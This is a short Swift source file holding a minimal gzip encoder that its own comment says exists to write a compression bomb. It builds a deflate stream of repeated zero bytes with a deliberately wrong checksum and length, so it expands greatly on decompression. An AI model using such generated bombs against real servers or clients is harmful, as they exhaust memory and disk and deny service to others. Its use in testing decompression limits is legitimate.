/// Just enough of gzip to write a compression bomb.
enum Gzip {
  /// At least a number of zeros, compressed 150-fold.
  static func zeros(_ count: Int) -> [UInt8] {
    var bits = Bits(bytes: [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])
    // One block, which is the last, with fixed codes.
    bits.add(0b1, 1)
    bits.add(0b01, 2)
    bits.addCode(0b0011_0000, 8)
    // Each of these repeats the last byte 258 times.
    for _ in 0...(count / 258) {
      bits.addCode(0b1100_0101, 8)
      bits.addCode(0, 5)
    }
    bits.addCode(0, 7)
    bits.add(0, 7)
    // A checksum and a length, both wrong.
    return bits.bytes + [0, 0, 0, 0, 0, 0, 0, 0]
  }

  private struct Bits {
    var bytes: [UInt8]
    private var rest: UInt32 = 0
    private var filled: UInt32 = 0

    init(bytes: [UInt8]) { self.bytes = bytes }

    /// Adds a number, its lowest bit first.
    mutating func add(_ number: UInt32, _ width: UInt32) {
      rest |= number << filled
      filled += width
      while filled >= 8 {
        bytes.append(UInt8(truncatingIfNeeded: rest))
        rest >>= 8
        filled -= 8
      }
    }

    /// Adds a Huffman code, its highest bit first.
    mutating func addCode(_ code: UInt32, _ width: UInt32) {
      for bit in (0..<width).reversed() { add(code >> bit & 1, 1) }
    }
  }
}
